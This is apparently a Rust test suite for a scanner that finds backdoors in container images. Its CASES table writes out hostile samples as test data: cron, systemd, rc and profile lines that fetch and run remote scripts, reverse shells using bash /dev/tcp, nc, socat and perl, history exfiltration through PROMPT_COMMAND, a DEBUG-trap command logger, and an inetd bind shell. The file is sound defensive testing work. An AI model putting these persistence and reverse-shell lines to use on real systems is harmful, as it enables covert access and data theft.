//! Every backdoor rule with a line that must trip it and a near miss that must not, in
//! the files' real formats; then the image-wide checks on real layer tars.

use holdfast_model::{Finding, WarningKind};
use serde_json::json;

use super::*;
use crate::test_support::{check, check_planted, file, file_mode, symlink, Entry, Planted};

fn run(layers: &[Vec<Entry<'_>>]) -> Vec<Finding> {
    check(Box::new(BackdoorChecker::new()), layers)
}

fn ids_at(f: &[Finding]) -> Vec<(&str, &str, Option<u32>)> {
    f.iter()
        .map(|f| (f.id.as_str(), f.path.as_deref().unwrap_or(""), f.line))
        .collect()
}

/// (path, content, the id it must raise or None).
const CASES: &[(&str, &str, Option<&str>)] = &[
    // ld.so.preload
    ("/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n", Some("HF-BACKDOOR-LD-PRELOAD")),
    ("/etc/ld.so.preload", "# nothing preloaded\n\n", None),
    // cron: system crontab, cron.d, user spool, periodic scripts
    ("/etc/crontab", "*/5 * * * * root curl -fsSL http://203.0.113.7/x.sh | bash\n", Some("HF-BACKDOOR-CRON-FETCH-EXEC")),
    ("/etc/cron.d/update", "@reboot root wget -q -O- http://example.invalid/i | sh\n", Some("HF-BACKDOOR-CRON-FETCH-EXEC")),
    ("/etc/cron.d/update", "0 3 * * * root bash -c \"$(curl -s http://example.invalid/a)\"\n", Some("HF-BACKDOOR-CRON-FETCH-EXEC")),
    ("/var/spool/cron/crontabs/root", "* * * * * echo Y3VybCBodHRwOi8vZXhhbXBsZS5pbnZhbGlk | base64 -d | bash\n", Some("HF-BACKDOOR-CRON-ENCODED-EXEC")),
    ("/var/spool/cron/crontabs/www-data", "* * * * * /bin/bash -c 'bash -i >& /dev/tcp/198.51.100.4/4444 0>&1'\n", Some("HF-BACKDOOR-CRON-REVERSE-SHELL")),
    ("/etc/cron.hourly/sync", "#!/bin/sh\nnc -e /bin/sh 198.51.100.4 9001\n", Some("HF-BACKDOOR-CRON-REVERSE-SHELL")),
    ("/etc/cron.d/x", "* * * * * root socat TCP:198.51.100.4:80 EXEC:/bin/bash\n", Some("HF-BACKDOOR-CRON-REVERSE-SHELL")),
    ("/etc/cron.d/x", "* * * * * root rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.4 1234 >/tmp/f\n", Some("HF-BACKDOOR-CRON-REVERSE-SHELL")),
    // near misses: Debian-style system crontab, downloads saved to files, commented lines
    ("/etc/crontab", "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n", None),
    ("/etc/cron.d/backup", "0 2 * * * root curl -fsS -o /var/backups/feed.json https://example.invalid/feed.json\n", None),
    ("/etc/cron.d/backup", "# 0 2 * * * root curl http://example.invalid/x | sh\n", None),
    ("/etc/cron.d/logs", "0 * * * * root base64 -d /etc/motd.b64 > /etc/motd\n", None),
    ("/etc/cron.d/nc", "0 * * * * root nc -z 127.0.0.1 6379 || systemctl restart redis\n", None),
    // systemd units
    ("/etc/systemd/system/upd.service", "[Unit]\nDescription=Updater\n[Service]\nType=oneshot\nExecStart=/bin/sh -c 'curl -s http://example.invalid/u | sh'\n[Install]\nWantedBy=multi-user.target\n", Some("HF-BACKDOOR-SYSTEMD-FETCH-EXEC")),
    ("/usr/lib/systemd/system/net-relay.service", "[Service]\nExecStart=/usr/bin/socat tcp-connect:198.51.100.4:443 exec:'bash -li',pty,stderr\nRestart=always\n", Some("HF-BACKDOOR-SYSTEMD-REVERSE-SHELL")),
    ("/lib/systemd/system/cron.service", "[Unit]\nDescription=Regular background program processing daemon\n[Service]\nEnvironmentFile=-/etc/default/cron\nExecStart=/usr/sbin/cron -f -P $EXTRA_OPTS\nIgnoreSIGPIPE=false\nKillMode=process\nRestart=on-failure\n", None),
    ("/etc/systemd/system/x.service", "[Service]\n; ExecStart=/bin/sh -c 'curl http://example.invalid | sh'\nExecStart=/usr/bin/true\n", None),
    // rc scripts
    ("/etc/rc.local", "#!/bin/sh -e\nwget -qO- http://example.invalid/boot | sh\nexit 0\n", Some("HF-BACKDOOR-RC-FETCH-EXEC")),
    ("/etc/init.d/netd", "#!/bin/sh\ncase \"$1\" in\n  start) perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(4444,inet_aton(\"198.51.100.4\")))' ;;\nesac\n", Some("HF-BACKDOOR-RC-REVERSE-SHELL")),
    ("/etc/init.d/hwclock.sh", "#!/bin/sh\n### BEGIN INIT INFO\n# Provides:          hwclock\n### END INIT INFO\n. /lib/lsb/init-functions\ncase \"$1\" in\n    start) /sbin/hwclock --rtc=/dev/rtc0 --hctosys ;;\nesac\n", None),
    // shell start-up files
    ("/root/.bashrc", "alias sudo='/tmp/.x/sudo'\n", Some("HF-BACKDOOR-SHELL-ALIAS")),
    ("/home/alice/.bashrc", "alias ls='ls --color=auto; curl -s http://example.invalid/k?u=$USER >/dev/null'\n", Some("HF-BACKDOOR-SHELL-ALIAS")),
    ("/etc/profile.d/zz.sh", "alias ssh=\"strace -o /tmp/.s -e read,write ssh\"\n", Some("HF-BACKDOOR-SHELL-ALIAS")),
    ("/etc/skel/.bashrc", "if [ -x /usr/bin/dircolors ]; then\n    alias ls='ls --color=auto'\n    alias grep='grep --color=auto'\nfi\nalias ll='ls -l'\n#alias rm='rm -i'\n", None),
    ("/root/.bashrc", "export LS_OPTIONS='--color=auto'\nalias ls='ls $LS_OPTIONS'\nalias rm='rm -i'\nalias vi=vim\nalias sudo='sudo '\n", None),
    ("/etc/bash.bashrc", "PROMPT_COMMAND='history -a >(logger -t cmd -p local6.info)'\n", None),
    ("/etc/bash.bashrc", "export PROMPT_COMMAND='RETRN_VAL=$?;logger -p local6.debug \"$(whoami) $(history 1)\"; curl -s -d \"$(history 1)\" http://example.invalid/c'\n", Some("HF-BACKDOOR-PROMPT-COMMAND")),
    ("/etc/bash.bashrc", "case \"$TERM\" in\nxterm*|rxvt*)\n    PROMPT_COMMAND='echo -ne \"\\033]0;${USER}@${HOSTNAME}: ${PWD}\\007\"'\n    ;;\nesac\n#    PROMPT_COMMAND='curl x'\n", None),
    ("/etc/profile", "trap 'echo \"$BASH_COMMAND\" >> /var/tmp/.h' DEBUG\n", Some("HF-BACKDOOR-DEBUG-TRAP")),
    ("/etc/profile", "trap 'rm -f $TMPFILE' EXIT\n# trap x DEBUG\n", None),
    ("/etc/environment", "LD_PRELOAD=/lib/x86_64-linux-gnu/libsnoopy.so\n", Some("HF-BACKDOOR-LD-PRELOAD-ENV")),
    ("/etc/profile", "if [ \"${PS1-}\" ]; then\n  if [ \"${BASH-}\" ] && [ \"$BASH\" != \"/bin/sh\" ]; then\n    if [ -f /etc/bash.bashrc ]; then\n      . /etc/bash.bashrc\n    fi\n  fi\nfi\nexport PATH\n", None),
    ("/home/bob/.profile", "bash -c 'exec 5<>/dev/tcp/198.51.100.4/8080;cat <&5 | while read l; do $l 2>&5 >&5; done' &\n", Some("HF-BACKDOOR-STARTUP-REVERSE-SHELL")),
    ("/home/bob/.profile", "curl -s https://example.invalid/i.py | python3\n", Some("HF-BACKDOOR-STARTUP-FETCH-EXEC")),
    // SSH
    ("/root/.ssh/authorized_keys", "no-pty,command=\"/usr/local/bin/.k; exec $SHELL\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wyqDHpSQEIQczXkVx9q ops\n", Some("HF-BACKDOOR-SSH-KEY-COMMAND")),
    ("/root/.ssh/authorized_keys", "from=\"10.0.0.0/8\",no-port-forwarding ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wyqDHpSQEIQczXkVx9q command=x\n", None),
    ("/etc/ssh/sshd_config", "AuthorizedKeysCommand /tmp/.keys.sh %u\nAuthorizedKeysCommandUser root\n", Some("HF-BACKDOOR-SSHD-KEYS-COMMAND")),
    ("/etc/ssh/sshd_config.d/ldap.conf", "AuthorizedKeysCommand /usr/bin/sss_ssh_authorizedkeys\nAuthorizedKeysCommandUser nobody\n", None),
    ("/etc/ssh/sshd_config", "#AuthorizedKeysCommand none\n#AuthorizedKeysCommandUser nobody\n", None),
    // inetd / xinetd bind shells
    ("/etc/xinetd.d/backup", "service backup\n{\n    socket_type = stream\n    wait        = no\n    user        = root\n    server      = /bin/bash\n    server_args = -i\n}\n", Some("HF-BACKDOOR-INETD-SHELL")),
    ("/etc/xinetd.d/tftp", "service tftp\n{\n    socket_type = dgram\n    server      = /usr/sbin/in.tftpd\n    server_args = -s /srv/tftp\n}\n", None),
    ("/etc/inetd.conf", "31337 stream tcp nowait root /bin/sh sh -i\n", Some("HF-BACKDOOR-INETD-SHELL")),
    ("/etc/inetd.conf", "#:BOOT: TFTP service is provided primarily for booting.\ntftp dgram udp wait nobody /usr/sbin/tcpd /usr/sbin/in.tftpd /srv/tftp\n", None),
];

#[test]
fn every_rule_trips_on_its_case_and_not_on_the_near_miss() {
    for (path, content, want) in CASES {
        let f = run(&[vec![file(path, content)]]);
        let got: Vec<&str> = f.iter().map(|f| f.id.as_str()).collect();
        match want {
            Some(id) => {
                assert_eq!(got, vec![*id], "{path}: {content}");
                assert_eq!(f[0].path.as_deref(), Some(*path));
                assert!(f[0].line.is_some() && f[0].evidence.is_some());
            }
            None => assert!(got.is_empty(), "{path}: unexpected {got:?} for {content}"),
        }
    }
}

#[test]
fn every_rule_id_has_a_positive_case() {
    let with_case: HashSet<&str> = CASES.iter().filter_map(|c| c.2).collect();
    for r in rules::built_in() {
        assert!(
            with_case.contains(r.text.id.as_str()),
            "{} has no test case",
            r.text.id
        );
        assert!(!r.text.description.is_empty() && !r.text.remediation.is_empty());
    }
    for id in rules::texts().ids() {
        let _ = rules::texts().finding(id, "x");
    }
}

const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash\n\
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n\
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n\
git:x:998:998::/srv/git:/usr/bin/git-shell\n\
alice:x:1000:1000::/home/alice:/bin/bash\n\
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n";

const KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wyqDHpSQEIQczXkVx9q someone\n";

#[test]
fn ssh_keys_of_service_accounts() {
    let f = run(&[vec![
        file("/etc/passwd", PASSWD),
        file("/var/www/.ssh/authorized_keys", KEY),
        file("/srv/git/.ssh/authorized_keys", KEY),
        file("/root/.ssh/authorized_keys", KEY),
        file("/home/alice/.ssh/authorized_keys", KEY),
        file("/usr/sbin/.ssh/authorized_keys", "# no keys\n"),
    ]]);
    assert_eq!(
        ids_at(&f),
        vec![
            (
                "HF-BACKDOOR-SSH-KEY-SERVICE-ACCOUNT",
                "/srv/git/.ssh/authorized_keys",
                None
            ),
            (
                "HF-BACKDOOR-SSH-KEY-SERVICE-ACCOUNT",
                "/var/www/.ssh/authorized_keys",
                None
            ),
        ]
    );
    assert!(f[1].title.contains("www-data"));
}

#[test]
fn pam_modules_owned_by_dpkg_through_the_usrmerge_symlink() {
    let list = "/.\n/lib\n/lib/x86_64-linux-gnu\n/lib/x86_64-linux-gnu/security\n/lib/x86_64-linux-gnu/security/pam_unix.so\n/lib/x86_64-linux-gnu/security/pam_env.so\n";
    let base = vec![
        symlink("/lib", "usr/lib"),
        file("/usr/lib/x86_64-linux-gnu/security/pam_unix.so", "\x7fELF"),
        file("/usr/lib/x86_64-linux-gnu/security/pam_env.so", "\x7fELF"),
        file("/var/lib/dpkg/info/libpam-modules:amd64.list", list),
    ];
    assert!(run(&[base]).is_empty());

    let base = vec![
        symlink("/lib", "usr/lib"),
        file("/usr/lib/x86_64-linux-gnu/security/pam_unix.so", "\x7fELF"),
        file("/var/lib/dpkg/info/libpam-modules:amd64.list", list),
    ];
    let planted = vec![file(
        "/lib/x86_64-linux-gnu/security/pam_sshd.so",
        "\x7fELF",
    )];
    let f = run(&[base, planted]);
    assert_eq!(
        ids_at(&f),
        vec![(
            "HF-BACKDOOR-PAM-UNOWNED",
            "/usr/lib/x86_64-linux-gnu/security/pam_sshd.so",
            None
        )]
    );

    // No package database with file lists (an rpm image): nothing is judged.
    let f = run(&[vec![file("/usr/lib64/security/pam_x.so", "\x7fELF")]]);
    assert!(f.is_empty());

    // apk's installed database lists files as F: directory and R: name.
    let apk = "P:linux-pam\nV:1.5.3-r7\nF:lib/security\nR:pam_unix.so\n\n";
    let f = run(&[vec![
        file("/lib/apk/db/installed", apk),
        file("/lib/security/pam_unix.so", "\x7fELF"),
        file("/lib/security/pam_evil.so", "\x7fELF"),
    ]]);
    assert_eq!(
        ids_at(&f),
        vec![("HF-BACKDOOR-PAM-UNOWNED", "/lib/security/pam_evil.so", None)]
    );
}

#[test]
fn setuid_shells_by_name_and_by_content() {
    let bash = b"\x7fELF bash body".as_slice();
    let f = run(&[vec![
        file_mode("/usr/bin/bash", bash, 0o755),
        file_mode("/usr/bin/passwd", b"\x7fELF passwd", 0o4755),
        file_mode("/var/tmp/.cache/update", bash, 0o4755),
        file_mode("/opt/tools/sh", b"\x7fELF other", 0o4750),
        file_mode("/usr/local/bin/tool", bash, 0o755),
    ]]);
    assert_eq!(
        ids_at(&f),
        vec![
            ("HF-BACKDOOR-SETUID-SHELL", "/opt/tools/sh", None),
            ("HF-BACKDOOR-SETUID-SHELL", "/var/tmp/.cache/update", None),
        ]
    );
    assert!(f[1]
        .evidence
        .as_deref()
        .unwrap_or("")
        .contains("same content"));
}

#[test]
fn long_hostile_lines_are_bounded_and_not_misjudged() {
    let benign = format!("alias ls='ls {}'\n", "$LS_OPTIONS ".repeat(500));
    let failing = format!("alias ls='ls {};'\n", "$aaaaaaaaaaaa".repeat(600));
    let huge = format!("* * * * * root {} | sh\n", "curl x ".repeat(5000));
    let start = std::time::Instant::now();
    let f = run(&[vec![
        file("/root/.bashrc", &benign),
        file("/home/a/.bashrc", &failing),
        file("/etc/cron.d/huge", &huge),
    ]]);
    assert!(start.elapsed() < std::time::Duration::from_secs(10));
    let got: Vec<(&str, &str)> = f
        .iter()
        .map(|f| (f.id.as_str(), f.path.as_deref().unwrap_or("")))
        .collect();
    assert_eq!(got.len(), 1, "{got:?}");
    assert_eq!(got[0], ("HF-BACKDOOR-SHELL-ALIAS", "/home/a/.bashrc"));
    assert!(f[0].evidence.as_deref().unwrap_or("").len() <= 200);
}

/// The kind and data a record is stored as.
fn stored(r: &BackdoorRecord) -> (String, serde_json::Value) {
    match record(r).unwrap() {
        FileFact::Record { kind, data } => (kind, data),
        other => panic!("not a record: {other:?}"),
    }
}

#[test]
fn records_keep_the_json_the_layer_cache_holds() {
    // The kinds and payloads version 1 of the analyzer wrote; a change here needs a new
    // `BackdoorFiles::version`.
    let users = accounts::parse_passwd("root:x:0:0:root:/root:/bin/bash\n");
    let hashed = || Hashed {
        sha256: "ab".into(),
    };
    let cases = [
        (
            BackdoorRecord::Passwd(users.clone()),
            "passwd",
            serde_json::to_value(&users).unwrap(),
        ),
        (
            BackdoorRecord::AuthorizedKeys(2),
            "authorized-keys",
            json!(2),
        ),
        (BackdoorRecord::PamModule, "pam-module", json!(null)),
        (
            BackdoorRecord::OwnedPam(vec!["/lib/security/pam_unix.so".into()]),
            "owned-pam",
            json!(["/lib/security/pam_unix.so"]),
        ),
        (
            BackdoorRecord::OwnerDb("dpkg".into()),
            "owner-db",
            json!("dpkg"),
        ),
        (
            BackdoorRecord::Setuid(hashed()),
            "setuid",
            json!({ "sha256": "ab" }),
        ),
        (
            BackdoorRecord::Shell(hashed()),
            "shell",
            json!({ "sha256": "ab" }),
        ),
    ];
    for (r, kind, data) in cases {
        assert_eq!(stored(&r), (kind.to_string(), data.clone()));
        assert_eq!(crate::decode::<BackdoorRecord>(kind, &data).unwrap(), r);
    }
}

#[test]
fn a_record_that_does_not_decode_is_a_warning_and_the_rest_is_checked() {
    let planted = Planted {
        name: ANALYZER,
        facts: vec![
            (
                "/etc/passwd",
                vec![record(&BackdoorRecord::Passwd(accounts::parse_passwd(PASSWD))).unwrap()],
            ),
            (
                "/srv/git/.ssh/authorized_keys",
                vec![record(&BackdoorRecord::AuthorizedKeys(1)).unwrap()],
            ),
            // The right kind, a payload of another shape.
            (
                "/var/www/.ssh/authorized_keys",
                vec![FileFact::Record {
                    kind: "authorized-keys".into(),
                    data: json!({ "keys": 1 }),
                }],
            ),
        ],
    };
    let checked = check_planted(Box::new(BackdoorChecker::new()), planted);
    assert_eq!(
        ids_at(&checked.findings),
        vec![(
            "HF-BACKDOOR-SSH-KEY-SERVICE-ACCOUNT",
            "/srv/git/.ssh/authorized_keys",
            None
        )]
    );
    assert_eq!(checked.warnings.len(), 1, "{:?}", checked.warnings);
    let w = &checked.warnings[0];
    assert_eq!(w.kind, WarningKind::CheckerRecord);
    assert_eq!(w.path.as_deref(), Some("/var/www/.ssh/authorized_keys"));
    assert!(w.layer.is_some());
    assert!(
        w.message.starts_with("backdoor checker: ") && w.message.contains("`authorized-keys`"),
        "{}",
        w.message
    );
}
